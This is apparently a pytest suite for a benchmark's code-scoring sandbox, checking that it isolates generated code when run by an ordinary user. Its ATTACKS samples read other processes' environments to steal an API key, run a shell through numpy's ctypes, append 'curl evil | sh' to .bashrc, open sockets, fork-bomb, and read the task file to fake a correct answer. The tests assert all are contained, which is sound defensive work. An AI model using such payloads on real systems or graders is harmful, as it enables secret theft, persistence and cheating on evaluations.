"""The scorer run as an ordinary (non-root) user confines generated code as it
does for root, gives the same verdicts, and refuses to run it weaker unless
told to.

CI runs as root, so these tests re-execute the command line as uid 4321 (an
account with no entry in /etc/passwd, no groups and no capabilities) through
`as_user.py`, which changes nothing else about the machine but makes the
interpreter and the project reachable for that uid.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import ROOT, strip_timings

from fembench_agents.scoring.sandbox import Sandbox
from fembench_agents.suite.loader import load_task

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0,
    reason="switching to another uid needs root; run as an ordinary user, the rest of the suite already scores as one",
)

UID = 4321
AS_USER = Path(__file__).with_name("as_user.py")
MSA = "MSA_3D_local_elastic_stiffness_CC0_H0_T0"
MESH = "FEM_1D_uniform_mesh_CC0_H0_T0"
TASK_FILES = {MSA: ROOT / "tasks" / "msa_3d" / f"{MSA}.py", MESH: ROOT / "tasks" / "fem_1d" / f"{MESH}.py"}
SECRET = "sk-fembench-" + "not-a-real-key-5d1e"
MSA_SIGNATURE = "def local_elastic_stiffness_matrix_3D_beam(E, nu, A, L, Iy, Iz, J):"


@pytest.fixture
def home() -> Iterator[Path]:
    """The user's home directory, outside every directory of root's."""
    path = Path(tempfile.mkdtemp(prefix="fembench-user-"))
    os.chown(path, UID, UID)
    yield path
    shutil.rmtree(path, ignore_errors=True)


def _user_dir(home: Path, name: str) -> Path:
    path = home / name
    path.mkdir()
    os.chown(path, UID, UID)
    return path


def run_as_user(
    home: Path, argv: list[str], *, user_namespaces: bool = True, timeout: float = 600
) -> subprocess.CompletedProcess[str]:
    """ARGV as uid 4321, from its home directory, with a provider key in its
    environment (which no job may see)."""
    command = [
        sys.executable,
        str(AS_USER),
        "--uid",
        str(UID),
        "--expose",
        os.path.realpath(sys.base_prefix),
        "--expose",
        str(ROOT),
        "--expose",
        os.path.realpath(sys.prefix),
        "--expose",
        str(home),
    ]
    if not user_namespaces:
        command.append("--no-user-namespaces")
    # PYTHONPATH: the user runs this checkout's package, whichever one is installed.
    env = {
        "HOME": str(home),
        "PATH": f"{Path(sys.executable).parent}:/usr/bin:/bin",
        "LANG": "C.UTF-8",
        "LITELLM_LOCAL_MODEL_COST_MAP": "True",
        "OPENAI_API_KEY": SECRET,
        "COLUMNS": "200",
        "PYTHONPATH": str(ROOT),
    }
    return subprocess.run(
        [*command, "--", *argv],
        cwd=home,
        env=env,
        capture_output=True,
        text=True,
        timeout=timeout,
        stdin=subprocess.DEVNULL,
    )


def as_user(home: Path, *args: str, user_namespaces: bool = True) -> subprocess.CompletedProcess[str]:
    """`fembench-agents ARGS` as uid 4321."""
    return run_as_user(home, [sys.executable, "-m", "fembench_agents.cli", *args], user_namespaces=user_namespaces)


def as_root(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "OPENAI_API_KEY": SECRET, "COLUMNS": "200", "PYTHONPATH": str(ROOT)}
    return subprocess.run(
        [sys.executable, "-m", "fembench_agents.cli", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
        stdin=subprocess.DEVNULL,
    )


def _copy_tasks(home: Path) -> Path:
    tasks = _user_dir(home, "tasks")
    for path in TASK_FILES.values():
        shutil.copy(path, tasks / path.name)
    return tasks


def _user_processes() -> list[str]:
    found = []
    for pid in os.listdir("/proc"):
        try:
            if pid.isdigit() and os.stat(f"/proc/{pid}").st_uid == UID:
                found.append(Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()[:80])
        except OSError:
            continue
    return found


def _completions(home: Path, sandbox: Sandbox) -> Path:
    """A fixed set of completions for two real tasks, both tracks: right,
    wrong, raising, all of a task's own tests, and one of them."""
    folder = _user_dir(home, "completions")
    for task_id, path in TASK_FILES.items():
        task = load_task(path, sandbox)
        signature = task.main_signature.split("\n")[0]
        tests = "\n\n".join(t.source for t in task.tests)
        files = {
            "code_ref": f"import numpy as np\n\n{task.main_source}",
            "code_wrong": f"import numpy as np\n\n{signature}\n    return np.zeros(3)\n",
            "code_raises": f"{signature}\n    raise ValueError('not written yet')\n",
            "test_ref": f"import numpy as np\nimport pytest\n\n{tests}",
            "test_one": f"import numpy as np\nimport pytest\n\n{task.tests[0].source}",
        }
        for label, text in files.items():
            track, name = label.split("_")
            (folder / f"{task_id}_{track}_{name}.py").write_text(text)
    return folder


def _verdicts(path: Path) -> dict[str, Any]:
    """The scored outcomes without what may differ between identities:
    timings and the isolation mechanism (root or user namespace)."""
    data = json.loads(path.read_text())

    def strip(value: Any) -> Any:
        if isinstance(value, dict):
            return {k: strip(v) for k, v in value.items() if k not in ("isolation",)}
        if isinstance(value, list):
            return [strip(v) for v in value]
        return value

    return strip(strip_timings({k: data[k] for k in ("summaries", "function_outcomes", "test_outcomes")}))


def test_sandbox_check_reports_a_user_namespace(home: Path) -> None:
    done = as_user(home, "sandbox", "check")
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[0] == "isolation: namespaced (user namespace)"


def test_verdicts_are_the_same_as_root_and_as_a_busy_ordinary_user(home: Path, sandbox: Sandbox) -> None:
    """Scores must not depend on who scores. The user already runs 80 other
    processes, more than a job's process limit: a limit counted per uid, not
    per job, would stop numpy or the test track's second process from
    starting and turn right answers into crashes."""
    tasks = _copy_tasks(home)
    completions = _completions(home, sandbox)
    root_json, user_json = home / "root.json", home / "user.json"
    done = as_root(home, "score", str(completions), "--tasks", str(tasks), "--json", str(root_json))
    assert done.returncode == 0, done.stderr
    busy = [
        subprocess.Popen(["setpriv", f"--reuid={UID}", f"--regid={UID}", "--clear-groups", "sleep", "600"])
        for _ in range(80)
    ]
    try:
        done = as_user(home, "score", str(completions), "--tasks", str(tasks), "--json", str(user_json))
    finally:
        for p in busy:
            p.kill()
            p.wait()
    assert done.returncode == 0, done.stderr
    assert "isolation: namespaced (user namespace)" in done.stdout
    root, user = _verdicts(root_json), _verdicts(user_json)
    assert user == root
    # The fixed set is scored as it should be, not merely alike.
    functions = root["function_outcomes"]
    assert {label: {t: o["passed"] for t, o in by_task.items()} for label, by_task in functions.items()} == {
        "ref": {MSA: True, MESH: True},
        "wrong": {MSA: False, MESH: False},
        "raises": {MSA: False, MESH: False},
    }
    # Both tasks have two tests: all of them jointly succeed, one of them half.
    assert {s["label"]: (s["functions_correct"], s["mean_joint_test_success"]) for s in root["summaries"]} == {
        "ref": (2, 1.0),
        "wrong": (0, 0.0),
        "raises": (0, 0.0),
        "one": (0, 0.5),
    }
    assert json.loads(user_json.read_text())["isolation"] == {
        "level": "namespaced",
        "detail": "user namespace",
        "accepted_weak": False,
    }


ATTACKS = {
    # Scored correct only if it can read and run the reference from the task file.
    "read_task_file": """
def local_elastic_stiffness_matrix_3D_beam(E, nu, A, L, Iy, Iz, J):
    ns = {}
    exec(open(TASK_FILE).read(), ns)
    return ns["local_elastic_stiffness_matrix_3D_beam"](E, nu, A, L, Iy, Iz, J)
""",
    # The provider key from the parent processes' environments, written down.
    "key_from_parent_environ": """
import numpy as np
def local_elastic_stiffness_matrix_3D_beam(E, nu, A, L, Iy, Iz, J):
    os = np.ctypeslib.ctypes._os  # no import statement for the static check to see
    for pid in os.listdir("/proc"):
        try:
            env = open(f"/proc/{pid}/environ", "rb").read()
        except Exception:
            continue
        if b"OPENAI_API_KEY" in env:
            for target in (HOME + "/leaked_key.txt", OUTSIDE + "/leaked_key.txt"):
                try:
                    open(target, "wb").write(env)
                except Exception:
                    pass
    return np.zeros((12, 12))
""",
    # A shell through libc, reached from numpy alone.
    "shell_through_numpy_ctypes": """
import numpy as np
def local_elastic_stiffness_matrix_3D_beam(E, nu, A, L, Iy, Iz, J):
    libc = np.ctypeslib.ctypes.CDLL(None)
    libc.system(("touch " + HOME + "/shell_ran; echo $OPENAI_API_KEY > " + OUTSIDE + "/shell_ran").encode())
    return np.zeros((12, 12))
""",
    "write_outside_scratch": """
import numpy as np
def local_elastic_stiffness_matrix_3D_beam(E, nu, A, L, Iy, Iz, J):
    for target in (OUTSIDE + "/escaped.txt", "/var/tmp/escaped.txt", "/dev/shm/escaped.txt"):
        try:
            open(target, "w").write("escaped")
        except Exception:
            pass
    return np.zeros((12, 12))
""",
    "write_into_home": """
import numpy as np
def local_elastic_stiffness_matrix_3D_beam(E, nu, A, L, Iy, Iz, J):
    try:
        open(HOME + "/.bashrc", "a").write("curl evil | sh")
    except Exception:
        pass
    return np.zeros((12, 12))
""",
    "connect_to_loopback": """
import numpy as np
def local_elastic_stiffness_matrix_3D_beam(E, nu, A, L, Iy, Iz, J):
    socket = np.ctypeslib.ctypes._sys.modules["socket"]
    s = socket.socket()
    s.settimeout(1)
    s.connect(("127.0.0.1", PORT))
    s.sendall(b"pwned")
    return np.zeros((12, 12))
""",
    "fork_bomb": """
import numpy as np
def local_elastic_stiffness_matrix_3D_beam(E, nu, A, L, Iy, Iz, J):
    os = np.ctypeslib.ctypes._os
    libc = np.ctypeslib.ctypes.CDLL(None)
    children = 0
    while True:
        try:
            if os.fork() == 0:
                libc.sleep(60)
                os._exit(0)
            children += 1
        except OSError:
            break
    if children >= 64:
        return REFERENCE  # more processes than a job may have
    raise RuntimeError(f"stopped after {children} processes")
""",
    "thread_bomb": """
import numpy as np
def local_elastic_stiffness_matrix_3D_beam(E, nu, A, L, Iy, Iz, J):
    start_thread = np.ctypeslib.ctypes._sys.modules["_thread"].start_new_thread
    libc = np.ctypeslib.ctypes.CDLL(None)
    threads = 0
    while True:
        try:
            start_thread(libc.sleep, (60,))
            threads += 1
        except RuntimeError:
            break
    if threads >= 64:
        return REFERENCE
    raise RuntimeError(f"stopped after {threads} threads")
""",
}


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    hits: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.1)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                hits.append(conn.recv(100) or b"<connected>")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], hits
    stop.set()
    thread.join()
    server.close()


def test_the_attacks_of_an_ordinary_users_report_are_contained(
    home: Path, listener: tuple[int, list[bytes]], sandbox: Sandbox
) -> None:
    """The attempts that got out as an ordinary user (issue 21), numpy and
    builtins only, so every static check lets them through; then a correct
    attempt in the same command, which must still pass."""
    port, hits = listener
    tasks = _copy_tasks(home)
    outside = _user_dir(home, "outside")
    folder = _user_dir(home, "completions")
    task = load_task(TASK_FILES[MSA], sandbox)
    reference = "np.array(" + repr(load_reference(sandbox)) + ")"
    names = {
        "TASK_FILE": repr(str(tasks / f"{MSA}.py")),
        "HOME": repr(str(home)),
        "OUTSIDE": repr(str(outside)),
        "PORT": str(port),
        "REFERENCE": reference,
    }
    for label, code in ATTACKS.items():
        for name, value in names.items():
            code = code.replace(name, value)
        (folder / f"{MSA}_code_{label.replace('_', '-')}.py").write_text("import numpy as np\n" + code)
    (folder / f"{MSA}_code_zcorrect.py").write_text(f"import numpy as np\n\n{task.main_source}")
    before = set(os.listdir(home))
    done = as_user(home, "score", str(folder), "--tasks", str(tasks), "--json", str(outside / "scores.json"))
    assert done.returncode == 0, done.stderr
    scores = json.loads((outside / "scores.json").read_text())
    outcomes = {label: by_task[MSA] for label, by_task in scores["function_outcomes"].items()}
    assert {label: o["passed"] for label, o in outcomes.items()} == {
        **{label.replace("_", "-"): False for label in ATTACKS},
        "zcorrect": True,
    }
    # Every attack got past the static checks and ran in the sandbox.
    assert all(o["stages"][1] == {**o["stages"][1], "stage": "imports", "passed": True} for o in outcomes.values())
    assert outcomes["read-task-file"]["inputs"][0]["error"]["type"] == "FileNotFoundError"
    assert "stopped after" in outcomes["fork-bomb"]["inputs"][0]["error"]["message"]
    assert "stopped after" in outcomes["thread-bomb"]["inputs"][0]["error"]["message"]
    assert sorted(os.listdir(outside)) == ["scores.json"]
    assert set(os.listdir(home)) == before
    assert not (home / ".bashrc").exists() and not (home / "shell_ran").exists()
    assert not Path("/var/tmp/escaped.txt").exists() and not Path("/dev/shm/escaped.txt").exists()
    time.sleep(0.2)
    assert hits == []
    assert SECRET not in (outside / "scores.json").read_text()
    assert _user_processes() == []  # every process of every job died with it


def load_reference(sandbox: Sandbox) -> list[list[float]]:
    from fembench_agents.scoring.evaluator import Evaluator

    task = load_task(TASK_FILES[MSA], sandbox)
    evaluator = Evaluator(sandbox)
    try:
        value = evaluator.scorer_for("code").reference_outputs(task)[0].value
    finally:
        evaluator.close()
    return value.tolist()


def test_without_user_namespaces_generated_code_is_refused_unless_accepted(home: Path, sandbox: Sandbox) -> None:
    tasks = _copy_tasks(home)
    completions = _completions(home, sandbox)
    out = home / "scores.json"
    done = as_user(home, "score", str(completions), "--tasks", str(tasks), "--json", str(out), user_namespaces=False)
    assert done.returncode == 2
    assert not out.exists()
    message = " ".join(done.stderr.split())
    assert message.startswith(
        "error: refusing to run generated code: this machine gives it only 'basic' isolation (creating a user "
        "namespace failed: ENOSPC (No space left on device)), so it would run with uid 4321's files, network "
        "and processes. To fix: - user namespaces are switched off: `sudo sysctl user.max_user_namespaces=15000` "
        "- or run fembench-agents inside a container"
    ), message
    assert "--allow-weak-isolation" in message and "fembench-agents sandbox check" in message

    check = as_user(home, "sandbox", "check", user_namespaces=False)
    assert check.returncode == 1
    assert check.stdout.splitlines()[0].startswith("isolation: basic: generated code ran with this user's files")

    done = as_user(
        home,
        "score",
        str(completions),
        "--tasks",
        str(tasks),
        "--json",
        str(out),
        "--allow-weak-isolation",
        user_namespaces=False,
    )
    assert done.returncode == 0, done.stderr
    report = json.loads(out.read_text())["isolation"]
    assert report == {
        "level": "basic",
        "accepted_weak": True,
        "detail": "creating a user namespace failed: ENOSPC (No space left on device)",
    }
    assert "isolation: basic; accepted with --allow-weak-isolation" in " ".join(done.stdout.split())
    assert "warning: isolation: basic; accepted with --allow-weak-isolation" in " ".join(done.stderr.split())


LEFT_WRITER = '''
import json
from fembench_agents.scoring.sandbox import Sandbox, SandboxPolicy

CODE = """
import os, stat, time

def f(hangs):
    results = next(fd for fd in range(3, 256) if _is_pipe(fd) and fd != 2)
    if os.fork() == 0:  # leaves the job's process group, holding its result channel
        os.setsid()
        time.sleep(1.2 if hangs else 0.2)  # 0.2 s after the job is killed at its wall clock, or ends
        os.write(results, b'{"event": "note", "late": true}\\\\n')
        time.sleep(6)
        os._exit(0)
    if hangs:
        time.sleep(60)
    return hangs

def _is_pipe(fd):
    try:
        return stat.S_ISFIFO(os.fstat(fd).st_mode)
    except OSError:
        return False
"""
with Sandbox(workers=1, allow_weak_isolation=True) as sandbox:
    for hangs, wall in ((1, 1.0), (0, 5.0)):
        job = {"kind": "call", "implementation": {"code": CODE, "function": "f", "preamble": []}, "inputs": [[hangs]]}
        r = sandbox.run(job, SandboxPolicy(wall_seconds=wall))
        print(json.dumps([r.isolation, r.timed_out, r.events("note"), len(r.events("input")), r.wall_seconds]))
'''


def test_with_basic_isolation_a_job_is_read_for_one_second_after_it_ends_and_no_longer(home: Path) -> None:
    """Without a PID namespace a process can outlive the job holding its pipes: what it writes in the
    second after the job is killed at its wall clock, or ends, is kept, and the job ends then, not when
    that process does nor at the wall clock."""
    done = run_as_user(home, [sys.executable, "-c", LEFT_WRITER], user_namespaces=False, timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    late = [{"event": "note", "late": True}]
    killed, ended = (json.loads(line) for line in done.stdout.splitlines()[-2:])
    assert killed[:4] == ["basic", True, late, 0] and 1.9 <= killed[4] < 2.7  # killed at 1 s, read until 2 s
    assert ended[:4] == ["basic", False, late, 1] and 1.0 <= ended[4] < 1.7  # ended at once, read for 1 s


def test_the_hostile_corpus_is_contained_for_an_ordinary_user(home: Path) -> None:
    """Every attack of the hostile corpus and of the test-track isolation
    tests, run again with the scorer as an ordinary user: all contained, none
    skipped."""
    done = run_as_user(
        home,
        [
            sys.executable,
            "-m",
            "pytest",
            "-q",
            "-p",
            "no:cacheprovider",
            "--basetemp",
            str(home / "pytest"),
            "--rootdir",
            str(ROOT),
            str(ROOT / "tests" / "test_hostile.py"),
            str(ROOT / "tests" / "test_test_pairs.py"),
            "-k",
            # the tests that need root: two an IPC namespace of their own, one a directory at the top of the filesystem
            "not with_basic_isolation and not top_of_the_machine",
        ],
        timeout=1200,
    )
    summary = done.stdout.strip().splitlines()[-1]
    assert done.returncode == 0, done.stdout[-3000:]
    assert re.fullmatch(r"\d+ passed, 3 deselected in [\d.]+s( \(\S+\))?", summary), summary


def test_the_openhands_terminal_is_confined_for_an_ordinary_user(home: Path) -> None:
    """The agent's terminal as an ordinary user: in its workspace, which it
    can write; the repository, home directories and the user's other files
    out of reach or read-only; no network; only its own processes."""
    from fembench_agents.agents.coding.terminal import write_launcher
    from fembench_agents.agents.coding.workspace import VIRTUAL_ROOT, Workspace

    workspace = Workspace(_user_dir(home, "episode"), "solution.py")
    for path in (workspace.dir, workspace.control):
        path.mkdir()
        os.chown(path, UID, UID)
    (workspace.dir / "solution.py").write_text("def f():\n    pass\n")
    os.chown(workspace.dir / "solution.py", UID, UID)
    launcher = write_launcher(workspace)
    # The user's own directory somewhere no hidden path covers (a clone under /tmp has its parent hidden).
    hidden = json.loads((workspace.control / "confine.json").read_text())["hidden"]
    place = next(
        p
        for p in (ROOT.parent, Path("/var/lib"), Path("/opt"))
        if p.is_dir() and not any(str(p) == h or str(p).startswith(h.rstrip("/") + "/") for h in hidden)
    )
    userdata = Path(tempfile.mkdtemp(dir=place, prefix=".fembench-userdata-"))
    os.chown(userdata, UID, UID)
    for path in (launcher, workspace.control / "confine.json"):
        os.chown(path, UID, UID)
    probe = "; ".join(
        [
            "pwd",
            "echo written > notes.txt && echo wrote-workspace",
            f"test -e {ROOT}/tasks -o -e {ROOT}/fembench_agents && echo repo-visible || echo repo-hidden",
            f"test -e {home} && echo home-visible || echo home-hidden",
            f"touch {userdata}/x 2>&1 | sed 's/.*: //'",
            "python -c 'import socket; socket.create_connection((\"127.0.0.1\", 22), 1)' 2>&1 | tail -1",
            "ls /proc | grep -c '^[0-9]'",
            "echo ${OPENAI_API_KEY:-no-key}",
        ]
    )
    try:
        done = run_as_user(home, [str(launcher), "-c", probe])
        assert done.returncode == 0, done.stderr
        assert done.stdout.splitlines() == [
            VIRTUAL_ROOT,
            "wrote-workspace",
            "repo-hidden",
            "home-hidden",
            "Read-only file system",
            "OSError: [Errno 101] Network is unreachable",
            "4",
            "no-key",
        ], done.stdout
        assert (workspace.dir / "notes.txt").read_text() == "written\n"
        assert (workspace.dir / "notes.txt").stat().st_uid == UID
        assert os.listdir(userdata) == []
    finally:
        shutil.rmtree(userdata)
